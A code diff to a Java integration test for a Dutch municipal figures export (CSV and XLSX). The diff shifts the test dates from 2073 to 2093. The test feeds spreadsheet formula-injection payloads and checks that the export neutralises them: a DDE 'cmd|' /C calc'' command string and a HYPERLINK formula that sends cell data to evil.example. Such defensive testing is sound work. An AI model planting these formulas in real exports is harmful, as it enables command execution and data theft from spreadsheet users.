@@ -28,7 +28,7 @@ import org.springframework.test.web.servlet.MockMvc;
 
 /**
  * The export of a municipality's figures with their history (CSV, XLSX): every version, and formula injection
- * neutralised (a reason like {@code =HYPERLINK(...)} is written as text with a leading '). Leeuwarden (PV21), 2073.
+ * neutralised (a reason like {@code =HYPERLINK(...)} is written as text with a leading '). Leeuwarden (PV21), 2093.
  */
 @IntegratieTest
 @TestInstance(TestInstance.Lifecycle.PER_CLASS)
@@ -61,18 +61,18 @@ class CijfersExportTest {
         denHaag = accounts.gemeente("GM0518");
         thZh = accounts.toezichthouder("PV28");
         String pad = "/api/v1/taakstellingen/import";
-        api.als(BEHEERDER).postCsv(pad, "gemeente;periode;taakstelling\nGM0080;2073-I;40\n").json(201);
+        api.als(BEHEERDER).postCsv(pad, "gemeente;periode;taakstelling\nGM0080;2093-I;40\n").json(201);
         api.als(BEHEERDER).doe(post(pad).param("reden", FORMULE).contentType("text/csv")
-                .content("gemeente;periode;taakstelling\nGM0080;2073-I;44\n")).json(201);
+                .content("gemeente;periode;taakstelling\nGM0080;2093-I;44\n")).json(201);
         api.als(BEHEERDER).postCsv("/api/v1/beginstanden/import",
-                "gemeente;periode;saldoIn;trede\nGM0080;2073-I;-5;1\n").json(201);
+                "gemeente;periode;saldoIn;trede\nGM0080;2093-I;-5;1\n").json(201);
         api.als(BEHEERDER).postCsv("/api/v1/coa-standen/import",
                 "gemeente;periode;datum;gehuisvest;koppelingen;omkoppelingen;stapelgemeente\n"
-                        + "GM0080;2073-I;2073-03-31;12;20;0;ja\n").json(201);
-        klok.zet(LocalDate.of(2073, 7, 10));
+                        + "GM0080;2093-I;2093-03-31;12;20;0;ja\n").json(201);
+        klok.zet(LocalDate.of(2093, 7, 10));
         try {
             api.als(BEHEERDER).post("/api/v1/gemeenten/GM0080/coa-definitief",
-                    "{\"periode\":\"2073-I\",\"gehuisvestCoaDefinitief\":30,\"reden\":\"@SUM(1+1)*cmd|' /C calc'!A0\"}")
+                    "{\"periode\":\"2093-I\",\"gehuisvestCoaDefinitief\":30,\"reden\":\"@SUM(1+1)*cmd|' /C calc'!A0\"}")
                     .json(201);
         } finally {
             klok.herstel();
@@ -93,16 +93,16 @@ class CijfersExportTest {
         assertThat(bytes[0]).isEqualTo((byte) 0xEF);
         List<String> regels = new String(bytes, StandardCharsets.UTF_8).substring(1).lines().toList();
         assertThat(regels.get(0)).startsWith("soort;periode;datum;taakstelling;");
-        List<String> taak = regels.stream().filter(l -> l.startsWith("taakstelling;2073-I;")).toList();
+        List<String> taak = regels.stream().filter(l -> l.startsWith("taakstelling;2093-I;")).toList();
         assertThat(taak).hasSize(2);
         // the new version first, with its reason neutralised (and quoted, because it contains quotes)
-        assertThat(taak.get(0)).startsWith("taakstelling;2073-I;;44;")
+        assertThat(taak.get(0)).startsWith("taakstelling;2093-I;;44;")
                 .contains(";\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&A1,\"\"Klik hier\"\")\";");
-        assertThat(taak.get(1)).startsWith("taakstelling;2073-I;;40;");
+        assertThat(taak.get(1)).startsWith("taakstelling;2093-I;;40;");
         // a negative number is a number, not text that could be a formula
-        assertThat(regels).anyMatch(l -> l.startsWith("beginstand;2073-I;;;;-5;1;"));
-        assertThat(regels).anyMatch(l -> l.startsWith("coa-stand;2073-I;2073-03-31;;;;;12;20;0;ja;"));
-        assertThat(regels).anyMatch(l -> l.startsWith("coa-definitief;2073-I;") && l.contains(";'@SUM(1+1)*cmd|"));
+        assertThat(regels).anyMatch(l -> l.startsWith("beginstand;2093-I;;;;-5;1;"));
+        assertThat(regels).anyMatch(l -> l.startsWith("coa-stand;2093-I;2093-03-31;;;;;12;20;0;ja;"));
+        assertThat(regels).anyMatch(l -> l.startsWith("coa-definitief;2093-I;") && l.contains(";'@SUM(1+1)*cmd|"));
         assertThat(regels).noneMatch(l -> l.contains(";=") || l.contains(";@") || l.contains(";\"="));
     }
 
@@ -122,7 +122,7 @@ class CijfersExportTest {
                     }
                 }
                 if (row.getCell(0) != null && row.getCell(0).getStringCellValue().equals("beginstand")
-                        && row.getCell(1).getStringCellValue().equals("2073-I")) {
+                        && row.getCell(1).getStringCellValue().equals("2093-I")) {
                     saldo = row;
                 }
             }
@@ -140,7 +140,7 @@ class CijfersExportTest {
         var cijfers = api.als(leeuwarden).get("/api/v1/gemeenten/GM0080/cijfers").json();
         assertThat(cijfers.get("gemeente").asString()).isEqualTo("GM0080");
         assertThat(cijfers.get("naam").asString()).isEqualTo("Leeuwarden");
-        assertThat(TaakstellingImportTest.reeks(cijfers, "2073-I").get("versies")).hasSize(2);
+        assertThat(TaakstellingImportTest.reeks(cijfers, "2093-I").get("versies")).hasSize(2);
         assertThat(cijfers.at("/beginstand/versies/0/saldoIn").asInt()).isEqualTo(-5);
         assertThat(cijfers.get("coaStanden")).isNotEmpty();
         assertThat(cijfers.get("definitief")).isNotEmpty();
